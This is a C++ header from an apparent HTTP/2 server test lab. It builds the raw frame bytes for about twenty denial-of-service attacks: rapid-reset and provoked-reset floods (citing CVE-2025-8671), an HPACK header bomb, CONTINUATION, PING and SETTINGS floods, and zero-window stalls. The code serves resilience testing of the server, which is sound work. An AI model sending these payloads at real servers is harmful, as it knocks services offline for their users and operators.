// SPDX-License-Identifier: Apache-2.0
// The attacks of gyre/http/server_http2_hostile_test.cpp, as the bytes of one connection each.
#pragma once

#include <cstddef>
#include <cstdint>
#include <string>
#include <string_view>

namespace lab::http2_attacked {

/// The names are those of the experiment's parameter.
enum class attack : std::uint8_t {
  none,
  stalled_responses,
  stalled_streams,
  unread_streams,
  heads,
  incomplete_bodies,
  unread_bodies,
  reset_data,
  resets,
  provoked_resets,
  pings,
  settings,
  windows,
  priorities,
  updates,
  unknown_frames,
  empty_data,
  continuations,
  cookies,
  crowd,
};

/// The bytes that each hostile connection sends, again and again.
struct attack_plan {
  std::string bytes = {};
  /// Whether a connection stays open after the bytes, and reads nothing; otherwise it connects
  /// again when the server has ended it, or a moment after the last byte.
  bool holds = false;
};

namespace frames {

inline std::string number(std::uint32_t value, int bytes = 4) {
  std::string text;
  for (int shift = 8 * (bytes - 1); shift >= 0; shift -= 8) {
    text += static_cast<char>((value >> shift) & 0xffU);
  }
  return text;
}

inline std::string frame(std::uint8_t type, std::uint8_t flags, std::uint32_t stream,
                         std::string_view payload = {}) {
  std::string text = number(static_cast<std::uint32_t>(payload.size()), 3);
  text += static_cast<char>(type);
  text += static_cast<char>(flags);
  return text.append(number(stream)).append(payload);
}

/// A field that changes no table (RFC 7541, 6.2.2), of less than 127 bytes.
inline std::string field(std::string_view name, std::string_view value) {
  std::string text(1, '\0');
  text.append(1, static_cast<char>(name.size())).append(name);
  return text.append(1, static_cast<char>(value.size())).append(value);
}

inline std::string fields(std::string_view method, std::string_view path) {
  return field(":method", method) + field(":scheme", "http") + field(":authority", "a") +
         field(":path", path);
}

inline std::string data(std::uint32_t stream, std::size_t size) {
  return frame(0, 0, stream, std::string(size, 'x'));
}
inline std::string request(std::uint32_t stream, std::string_view method, std::string_view path,
                           bool is_whole = true) {
  return frame(1, is_whole ? 5 : 4, stream, fields(method, path));
}
inline std::string reset(std::uint32_t stream) { return frame(3, 0, stream, number(8)); }
inline std::string window_setting(std::uint32_t size) {
  return frame(4, 0, 0, number(4, 2) + number(size));
}
inline std::string window_update(std::uint32_t stream, std::uint32_t size) {
  return frame(8, 0, stream, number(size));
}

/// A request on each of the streams that a connection may have.
inline std::string hundred_requests(std::string_view method, std::string_view path,
                                    bool is_whole = true) {
  std::string text;
  for (std::uint32_t stream = 1; stream < 200; stream += 2) {
    text += request(stream, method, path, is_whole);
  }
  return text;
}

inline std::string repeated(const std::string& text, int times) {
  std::string all;
  for (int i = 0; i < times; ++i) all += text;
  return all;
}

/// A flood of one frame, on a connection with an open stream.
inline std::string flood(const std::string& each) {
  return request(1, "POST", "/pieces", false) + repeated(each, 3000);
}

/// A field of 4 KiB in the table of HPACK, and then a byte for each copy of it.
inline std::string header_bomb() {
  // Huffman coding is not used: a literal with incremental indexing, whose length takes 3 bytes.
  constexpr std::size_t size = 3900;
  std::string first = fields("GET", "/slow") + '\x40' + '\x01' + 'a' + '\x7f';
  first += static_cast<char>((size - 127) % 128 + 128);
  first += static_cast<char>((size - 127) / 128);
  first += std::string(size, 'x');
  std::string text = frame(1, 5, 1, first);
  const std::string block = fields("GET", "/slow") + std::string(8, '\xbe');
  for (std::uint32_t stream = 3; stream < 200; stream += 2) text += frame(1, 5, stream, block);
  return text;
}

inline std::string resets() {
  std::string text;
  for (std::uint32_t stream = 1; stream < 2000; stream += 2) {
    text += request(stream, "GET", "/slow") + reset(stream);
  }
  return text;
}

/// Resets that the server must send, because a window becomes too large (CVE-2025-8671).
inline std::string provoked_resets() {
  std::string text;
  for (std::uint32_t stream = 1; stream < 2000; stream += 2) {
    text += request(stream, "GET", "/slow") + window_update(stream, 0x7fffffff);
  }
  return text;
}

inline std::string bodies(std::string_view path, std::uint32_t end_of_streams, int frames_of_each) {
  std::string text = hundred_requests("POST", path, false);
  for (std::uint32_t stream = 1; stream < end_of_streams; stream += 2) {
    text += repeated(data(stream, 16'000), frames_of_each);
  }
  return text;
}

/// Fields "cookie" without a value, from the static table.
inline std::string cookies() {
  std::string text;
  for (std::uint32_t stream = 1; stream < 20; stream += 2) {
    text += frame(1, 5, stream, fields("GET", "/slow") + std::string(4000, '\xa0'));
  }
  return text;
}

}  // namespace frames

inline attack_plan plan_of(attack kind) {
  using namespace frames;
  const auto hold = [](std::string text) {
    return attack_plan{.bytes = std::move(text), .holds = true};
  };
  const auto end = [](std::string text) {
    return attack_plan{.bytes = std::move(text), .holds = false};
  };
  switch (kind) {
    case attack::none: return {};
    case attack::stalled_responses:
      return hold(window_setting(0) + hundred_requests("GET", "/large"));
    case attack::stalled_streams:
      return hold(window_setting(0) + hundred_requests("GET", "/stream"));
    case attack::unread_streams:
      return hold(window_setting(0x7fffffff) + window_update(0, 0x7fff0000) +
                  hundred_requests("GET", "/stream"));
    case attack::heads: return end(header_bomb());
    case attack::incomplete_bodies: return end(bodies("/whole", 200, 4));
    case attack::unread_bodies: return end(bodies("/pieces", 32, 1));
    case attack::reset_data:
      return end(request(1, "POST", "/none", false) + repeated(data(1, 16'000), 200));
    case attack::resets: return end(resets());
    case attack::provoked_resets: return end(provoked_resets());
    case attack::pings: return end(flood(frame(6, 0, 0, "12345678")));
    case attack::settings: return end(flood(frame(4, 0, 0)));
    case attack::windows: return end(flood(window_setting(65'535)));
    case attack::priorities: return end(flood(frame(2, 0, 1, number(3) + 'x')));
    case attack::updates: return end(flood(window_update(0, 1)));
    case attack::unknown_frames: return end(flood(frame(0x5e, 0, 0, "x")));
    case attack::empty_data: return end(flood(frame(0, 0, 1)));
    case attack::continuations:
      return end(frame(1, 1, 1, fields("GET", "/slow")) +
                 repeated(frame(9, 0, 1, field("a", "b")), 100));
    case attack::cookies: return end(cookies());
    case attack::crowd: return hold(window_setting(0) + hundred_requests("GET", "/medium"));
  }
  return {};
}

}  // namespace lab::http2_attacked
